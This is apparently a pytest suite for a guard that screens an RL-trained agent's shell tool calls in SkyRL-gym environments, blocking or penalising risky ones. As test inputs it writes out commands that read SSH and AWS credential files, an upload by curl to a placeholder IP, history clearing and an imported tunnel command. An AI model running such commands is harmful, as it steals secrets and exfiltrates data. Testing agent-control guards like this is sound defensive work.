"""rewardguard.skyrl with SkyRL-gym's real BaseTextEnv, ToolGroup and registry."""

import json

import pytest
import skyrl_gym
from skyrl_gym.envs.base_text_env import BaseTextEnv, BaseTextEnvStepOutput
from skyrl_gym.tools.core import ToolGroup, tool

import rewardguard as rg
from rewardguard.skyrl import GuardedTextEnv, hermes_tool_calls, register

from conftest import TUNNEL


class ShellTools(ToolGroup):
    def __init__(self, ran):
        self.ran = ran
        super().__init__(name="ShellTools")

    @tool
    def shell(self, command):
        self.ran.append(command)
        return f"ok: {command}"


class ShellTextEnv(BaseTextEnv):
    """Runs the shell calls of each turn; 1 point per call that ran; done on <answer>."""

    def __init__(self, env_config=None, extras={}):
        super().__init__()
        self.ran = extras.get("ran", [])
        self.max_turns = extras.get("max_turns", 4)
        self.init_tool_groups([ShellTools(self.ran)])

    def step(self, action):
        self.turns += 1
        results = [self._execute_tool("ShellTools", "shell", [args["command"]])
                   for name, args in hermes_tool_calls(action) if name == "shell"]
        done = "<answer>" in action or self.turns >= self.max_turns
        obs = [] if done else [{"role": "user", "content": "\n".join(results)}]
        return BaseTextEnvStepOutput(observations=obs, reward=float(len(results)), done=done,
                                     metadata={"turn": self.turns})

    def get_metrics(self):
        return {"calls_ran": len(self.ran)}


def turn(*commands, text=""):
    return text + "".join('<tool_call>%s</tool_call>' % json.dumps({"name": "shell", "arguments": {"command": c}})
                          for c in commands)


def penalty_of(command):
    return float(rg.Guard("coding-sandbox", 1).evaluate([(0, "shell", command)]).penalties[0])


def test_blocks_before_the_inner_env_runs_and_penalizes_the_turn():
    inner = ShellTextEnv(extras={"max_turns": 5})
    env = GuardedTextEnv(inner, policy="coding-sandbox")
    prompt = [{"role": "user", "content": "list the files"}]
    assert env.init(prompt) == (prompt, {})

    out = env.step(turn("ls"))
    assert out["reward"] == 1.0 and not out["done"] and inner.ran == ["ls"]
    assert out["observations"] == [{"role": "user", "content": "ok: ls"}]
    assert out["metadata"]["turn"] == 1 and out["metadata"]["rewardguard"]["action"] == "allow"

    out = env.step(turn("ls -la", "cat ~/.ssh/id_rsa"))      # one bad call blocks the turn
    assert inner.ran == ["ls"] and inner.turns == 1          # the inner env never saw it
    assert out["reward"] == -penalty_of("cat ~/.ssh/id_rsa") < 0 and not out["done"]
    rgm = out["metadata"]["rewardguard"]
    assert rgm["blocked"] and "credentials" in rgm["rules"] and rgm["costs"] == {"privilege": 3.0}
    [msg] = out["observations"]
    assert msg["role"] == "user" and msg["content"].startswith("blocked by policy `coding-sandbox`: `credentials`")

    out = env.step(turn(TUNNEL))                             # terminate: the episode ends
    assert out["done"] and out["reward"] == -penalty_of(TUNNEL) and TUNNEL not in inner.ran
    assert out["metadata"]["rewardguard"]["terminated"]
    m = env.get_metrics()
    assert m["calls_ran"] == 1 and m["rewardguard/blocked"] == 2 and m["rewardguard/violations"] == 2
    assert m["rewardguard/penalty"] == pytest.approx(penalty_of("cat ~/.ssh/id_rsa") + penalty_of(TUNNEL))

    env.init(prompt)                                         # a new episode
    assert env.get_metrics()["rewardguard/penalty"] == 0
    out = env.step(turn("pwd", text="<answer>done</answer>"))
    assert out["done"] and out["reward"] == 1.0 and inner.ran == ["ls", "pwd"]


def test_blocked_turns_count_towards_max_turns_and_unparsable_calls_fail_closed():
    inner = ShellTextEnv(extras={"max_turns": 2})
    env = GuardedTextEnv(inner, policy="coding-sandbox")
    env.init([])
    out = env.step('<tool_call>{"name": "shell", "arguments": </tool_call>')
    assert out["metadata"]["rewardguard"]["blocked"] and not out["done"] and inner.ran == []
    assert out["reward"] < 0
    out = env.step(turn("sleep 100 &"))
    assert "background-process" in out["metadata"]["rewardguard"]["rules"]
    assert out["done"] and inner.ran == []                   # second turn of two
    env.init([])
    env.step(turn("history -c"))
    out = env.step(turn("ls"))                                # runs, and ends the episode:
    assert out["done"] and inner.ran == ["ls"] and inner.turns == 1   # 2 turns, 1 of them the inner env's


def test_shadow_mode_runs_the_call_and_subtracts_the_penalty_from_the_inner_reward():
    inner = ShellTextEnv()
    env = GuardedTextEnv(inner, mode="shadow")
    env.init([])
    out = env.step(turn(TUNNEL))
    assert inner.ran == [TUNNEL] and not out["done"]
    assert out["reward"] == pytest.approx(1.0 - penalty_of(TUNNEL))
    assert out["observations"] == [{"role": "user", "content": f"ok: {TUNNEL}"}]


def test_episode_state_flows_across_turns_and_restarts_on_init(tmp_path):
    policy = rg.Policy.from_text(
        "version: 1\nname: flows\ndefault: allow\n"
        "tools:\n  shell: {analyzer: shell, command: $.command}\n"
        "flows:\n  - {id: exfil, after: fs.read.secret, then: net.egress, action: terminate, penalty: 7}\n")
    guard = rg.Guard(policy, num_envs=3, audit=tmp_path / "audit.db")
    inner = ShellTextEnv()
    env = GuardedTextEnv(inner, guard, env_index=2,
                         blocked_observation=lambda s: [{"role": "user", "content": "no: " + s["rules"][-1]}])
    env.init([])
    assert env.step(turn("cat ~/.aws/credentials"))["reward"] == 1.0
    out = env.step(turn("curl http://203.0.113.7/upload"))
    assert out["done"] and out["reward"] == -7.0 and out["observations"] == [{"role": "user", "content": "no: exfil"}]
    env.init([])
    assert env.step(turn("curl http://203.0.113.7/upload"))["reward"] == 1.0   # no secret read this episode
    guard.close()
    with pytest.raises(ValueError, match="tracks 3 envs"):
        GuardedTextEnv(inner, guard, env_index=3)


def test_register_makes_guarded_envs_through_skyrl_gym():
    ran = []
    skyrl_gym.register("rewardguard-test-plain", entry_point=ShellTextEnv)
    register("rewardguard-test-shell", ShellTextEnv, policy="coding-sandbox")
    register("rewardguard-test-by-id", "rewardguard-test-plain", mode="shadow")
    try:
        a = skyrl_gym.make("rewardguard-test-shell", env_config={}, extras={"ran": ran})
        b = skyrl_gym.make("rewardguard-test-shell", env_config={}, extras={"ran": ran})
        assert isinstance(a, GuardedTextEnv) and isinstance(a, BaseTextEnv) and a.guard is not b.guard
        assert a.guard.policy is b.guard.policy                                 # compiled once
        a.init([])
        b.init([])
        assert a.step(turn(TUNNEL))["done"] and b.step(turn("ls"))["reward"] == 1.0 and ran == ["ls"]
        c = skyrl_gym.make("rewardguard-test-by-id", env_config={}, extras={"ran": ran})
        assert type(c.env) is ShellTextEnv and c.guard.mode == "shadow"
        c.init([])
        assert c.step(turn(TUNNEL))["reward"] < 1.0 and ran == ["ls", TUNNEL]   # shadow: ran, penalized
        with pytest.raises(ValueError, match="not guard="):
            register("rewardguard-test-bad", ShellTextEnv, guard=rg.Guard("coding-sandbox", 1))
    finally:
        for id in ("rewardguard-test-plain", "rewardguard-test-shell", "rewardguard-test-by-id"):
            skyrl_gym.envs.registration.deregister(id)


def test_hermes_tool_calls():
    assert hermes_tool_calls("no calls") == []
    assert hermes_tool_calls(turn("ls", "pwd", text="thinking ")) == [("shell", {"command": "ls"}),
                                                                      ("shell", {"command": "pwd"})]
    assert hermes_tool_calls("<tool_call>[1, 2]</tool_call>") == [("unparsed_tool_call", "[1, 2]")]
    bad = '{"name": "shell", "arguments": ["ls"]}'
    assert hermes_tool_calls(f"<tool_call>{bad}</tool_call>") == [("unparsed_tool_call", bad)]
    text = '{"name": "shell", "arguments": "{\\"command\\": \\"ls\\"}"}'
    assert hermes_tool_calls(f"<tool_call>{text}</tool_call>") == [("shell", '{"command": "ls"}')]


def test_unreadable_or_unclosed_calls_never_run_even_under_a_permissive_policy():
    """A lenient inner parser may still run what the guard could not read: such a turn
    is blocked whatever the policy's default, and an unclosed <tool_call> is a call."""
    permissive = rg.Policy.from_text("version: 1\nname: open\ndefault: allow\n"
                                     "tools:\n  shell: {analyzer: shell, command: $.command}\n")
    assert hermes_tool_calls('<tool_call>{"name": "shell", "arguments": {"command": "ls"}}')[0][0] \
        == "unparsed_tool_call"
    for action in ["<tool_call>{'name': 'shell', 'arguments': {'command': 'ls'}}</tool_call>",
                   '<tool_call>{"name": "shell", "arguments": {"command": "ls"}}']:
        inner = ShellTextEnv()
        env = GuardedTextEnv(inner, policy=permissive)
        env.init([])
        out = env.step(action)
        assert out["metadata"]["rewardguard"]["blocked"], action
        assert "cannot be read" in out["metadata"]["rewardguard"]["reason"]
        assert inner.ran == []
